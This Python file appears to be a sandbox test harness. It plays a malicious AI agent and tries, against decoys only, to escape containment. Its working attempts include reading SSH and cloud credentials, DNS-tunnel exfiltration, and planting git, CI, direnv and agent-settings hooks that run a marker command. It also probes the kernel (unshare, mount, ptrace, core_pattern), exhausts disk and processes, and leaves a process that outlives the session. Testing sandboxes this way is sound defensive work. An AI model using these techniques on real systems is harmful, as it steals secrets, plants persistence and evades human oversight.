"""The stand-in agent's second act: what a malicious agent tries, one attempt a function.

A program of its own, fed to a Python of 3.9 or newer on standard input; it imports nothing of
casemate. Its argument is JSON that names the decoys. For every attempt it writes one line of
JSON: what it obtained, or the errno it got. It harms nothing but decoys, so it can be shown
without a sandbox first.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable

TARGETS = json.loads(sys.argv[1])
OWNED = "touch /tmp/owned-by-" + TARGETS["mark"]

CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
SYS_IO_URING_SETUP = 425


class Refused(Exception):
    """The attempt failed without an errno."""


class Attempts:
    """What is tried: one method an attempt, named as in the report, giving what was obtained.

    A refusal is an `OSError` or `Refused`.
    """

    # Secrets

    def ssh_key(self) -> str:
        return read(*home(".ssh/id_ed25519"))

    def cloud_credentials(self) -> str:
        return read(*home(".aws/credentials"))

    def project_secrets(self) -> str:
        return read(os.path.join(TARGETS["project"], ".env"))

    def caller_environment(self) -> str:
        name = TARGETS["variable"]
        if name in os.environ:
            return os.environ[name]
        for process in ("1", str(os.getppid()), str(TARGETS["decoy"])):
            try:
                with open("/proc/" + process + "/environ", "rb") as file:
                    for entry in file.read().split(b"\0"):
                        if entry.startswith(name.encode() + b"="):
                            return entry.decode().partition("=")[2]
            except OSError:
                continue
        raise Refused("not there")

    # Other projects and files outside

    def neighbour_read(self) -> str:
        return read(os.path.join(TARGETS["neighbour"], "notes.txt"))

    def neighbour_write(self) -> str:
        with open(os.path.join(TARGETS["neighbour"], "notes.txt"), "a") as file:
            file.write(TARGETS["mark"])
        return "written"

    def shell_startup(self) -> str:
        with open(os.path.join(TARGETS["home"], ".bashrc"), "a") as file:
            file.write(TARGETS["mark"])
        return "written"

    # Other processes

    def process_list(self) -> str:
        for process in filter(str.isdigit, os.listdir("/proc")):
            if is_decoy(process):
                return command_line(process)
        raise Refused("not there")

    def process_kill(self) -> str:
        # Inside, the number may by chance be that of a process of the sandbox.
        if os.path.exists("/proc/" + str(TARGETS["decoy"])) and not is_decoy(TARGETS["decoy"]):
            raise OSError(errno.ESRCH, "no such process")
        os.kill(TARGETS["decoy"], signal.SIGKILL)
        return "killed"

    # The network

    def host_loopback(self) -> str:
        return connect(socket.AF_INET, ("127.0.0.1", TARGETS["tcp"]))

    def direct_address(self) -> str:
        return connect(socket.AF_INET, tuple(TARGETS["direct"]))

    def dns_tunnel(self) -> str:
        label = TARGETS["secret"].encode()
        question = bytes([len(label)]) + label + b"\7example\0" + struct.pack(">HH", 1, 1)
        query = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + question
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
            resolver.settimeout(1)
            resolver.connect(("127.0.0.1", TARGETS["dns"]))
            resolver.send(query)
            resolver.recv(512)
        return "answered"

    def abstract_socket(self) -> str:
        return connect(socket.AF_UNIX, "\0" + TARGETS["abstract"])

    def named_socket(self) -> str:
        return connect(socket.AF_UNIX, TARGETS["socket"])

    def vsock(self) -> str:
        socket.socket(40, socket.SOCK_STREAM).close()  # AF_VSOCK, vsock(7)
        return "opened"

    # Traps: files that programs outside the sandbox run or obey by themselves

    def git_hook(self) -> str:
        return plant(".git/hooks/pre-commit", "#!/bin/sh\n" + OWNED + "\n")

    def directory_environment(self) -> str:
        return plant(".envrc", OWNED + "\n")

    def workflow(self) -> str:
        steps = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: "
        return plant(".github/workflows/build.yml", steps + OWNED + "\n")

    def agent_hook(self) -> str:
        hook = {"type": "command", "command": OWNED}
        settings = {"hooks": {"SessionStart": [{"hooks": [hook]}]}}
        return plant(".claude/settings.json", json.dumps(settings, indent=2) + "\n")

    def outward_link(self) -> str:
        link = os.path.join(TARGETS["project"], "shared-keys")
        os.symlink(os.path.join(TARGETS["home"], ".ssh"), link)
        return "written"

    # Doors of the kernel

    def user_namespace(self) -> str:
        in_child(lambda: libc("unshare", CLONE_NEWUSER))
        return "created"

    def mount(self) -> str:
        target = TARGETS["project"].encode()

        def action() -> None:
            # Only ever in a namespace of its own: without a sandbox this may run as root.
            libc("unshare", CLONE_NEWUSER | CLONE_NEWNS)
            libc("mount", b"none", target, b"tmpfs", 0, None)

        try:
            in_child(action)
        except OSError:
            # A type that no kernel has: who may mount is told so, and nothing is mounted.
            try:
                libc("mount", b"none", target, b"no-such-type", 0, None)
            except OSError as refusal:
                if refusal.errno != errno.ENODEV:
                    raise
        return "mounted"

    def ptrace(self) -> str:
        child = os.fork()
        if child == 0:
            time.sleep(30)
            os._exit(0)
        try:
            libc("ptrace", PTRACE_ATTACH, child, None, None)
            os.waitpid(child, 0)
            libc("ptrace", PTRACE_DETACH, child, None, None)
        finally:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
        return "attached"

    def io_uring(self) -> str:
        parameters = ctypes.create_string_buffer(120)
        os.close(libc("syscall", SYS_IO_URING_SETUP, 1, parameters))
        return "opened"

    def core_pattern(self) -> str:
        # Being able to open it is enough: the kernel would run what it names, as root.
        os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
        return "opened"

    # Resources

    def disk_bytes(self) -> str:
        directory = os.path.join(TARGETS["project"], "fill")
        os.mkdir(directory)
        block, written = b"\xa5" * (1 << 20), 0
        try:
            while written < TARGETS["bytes"]:
                with open(os.path.join(directory, str(written)), "wb", buffering=0) as file:
                    written += file.write(block)
        finally:
            empty(directory)
        return "written"

    def disk_files(self) -> str:
        directory = os.path.join(TARGETS["project"], "fill")
        os.mkdir(directory)
        try:
            for number in range(TARGETS["files"]):
                os.close(os.open(os.path.join(directory, str(number)), os.O_CREAT | os.O_WRONLY))
        finally:
            empty(directory)
        return "written"

    def processes(self) -> str:
        children = []
        try:
            for _ in range(TARGETS["processes"]):
                child = os.fork()
                if child == 0:
                    time.sleep(30)
                    os._exit(0)
                children.append(child)
        finally:
            for child in children:
                os.kill(child, signal.SIGKILL)
                os.waitpid(child, 0)
        return "forked"

    # After the end

    def straggler(self) -> str:
        child = os.fork()
        if child == 0:
            os.setsid()
            if os.fork() == 0:
                nowhere = os.open("/dev/null", os.O_RDWR)
                for descriptor in (0, 1, 2):
                    os.dup2(nowhere, descriptor)
                sleeper = [sys.executable, "-I", "-S", "-c", "import time; time.sleep(60)"]
                os.execv(sys.executable, [*sleeper, TARGETS["straggler_name"]])
            os._exit(0)
        os.waitpid(child, 0)
        time.sleep(0.1)
        return "left behind"


def read(*paths: str) -> str:
    """The text of the first path that can be read; the first refusal if none can."""
    refusals = []
    for path in paths:
        try:
            with open(path) as file:
                return file.read()
        except OSError as refusal:
            refusals.append(refusal)
    raise refusals[0]


def home(name: str) -> tuple[str, ...]:
    """A path in the user's home directory, directly and by ways around it."""
    path = os.path.join(TARGETS["home"], name)
    return path, "/proc/self/root" + path, "/proc/1/root" + path


def libc(name: str, *arguments: object) -> int:
    """Calls a function of the C library. Raises `OSError`."""
    result: int = getattr(ctypes.CDLL(None, use_errno=True), name)(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def is_decoy(process: object) -> bool:
    """Whether a process id is that of the decoy outside."""
    return TARGETS["decoy_name"] in command_line(process).split("\0")


def command_line(process: object) -> str:
    """The arguments of a process, or nothing where it cannot be seen. proc(5)"""
    try:
        with open("/proc/" + str(process) + "/cmdline", errors="replace") as file:
            return file.read()
    except OSError:
        return ""


def connect(family: int, address: object) -> str:
    """What a listener at an address greets with."""
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(2)
        connection.connect(address)  # type: ignore[arg-type]
        return connection.recv(64).decode()


def plant(path: str, text: str) -> str:
    """Writes a trap into the project; `owned` is what the host would run."""
    full = os.path.join(TARGETS["project"], path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "w") as file:
        file.write(text)
    os.chmod(full, 0o755)
    return "written"


def in_child(action: Callable[[], object]) -> None:
    """Runs an action in a process of its own, which carries its consequences; raises its error."""
    child = os.fork()
    if child == 0:
        try:
            action()
            os._exit(0)
        except OSError as refusal:
            os._exit(refusal.errno or 255)
        finally:
            os._exit(254)
    status = os.waitpid(child, 0)[1]
    if os.WIFSIGNALED(status):
        raise Refused("killed by signal " + str(os.WTERMSIG(status)))
    if os.WEXITSTATUS(status):
        raise OSError(os.WEXITSTATUS(status), "")


def empty(directory: str) -> None:
    """Removes a directory of files: the next attempt wants the space."""
    for name in os.listdir(directory):
        os.unlink(os.path.join(directory, name))
    os.rmdir(directory)


def main() -> None:
    """Makes every attempt and reports on each."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    attempts = Attempts()
    for name in vars(Attempts):
        if name.startswith("_"):
            continue
        report = {"attempt": name}
        try:
            report["loot"] = getattr(attempts, name)()
        except OSError as refusal:
            number = refusal.errno or 0
            report["errno"] = errno.errorcode.get(number, str(number))
        except Refused as refusal:
            report["refused"] = str(refusal)
        except Exception as problem:  # noqa: BLE001 - whatever it is, it is reported
            report["problem"] = repr(problem)
        print(json.dumps(report), flush=True)


main()
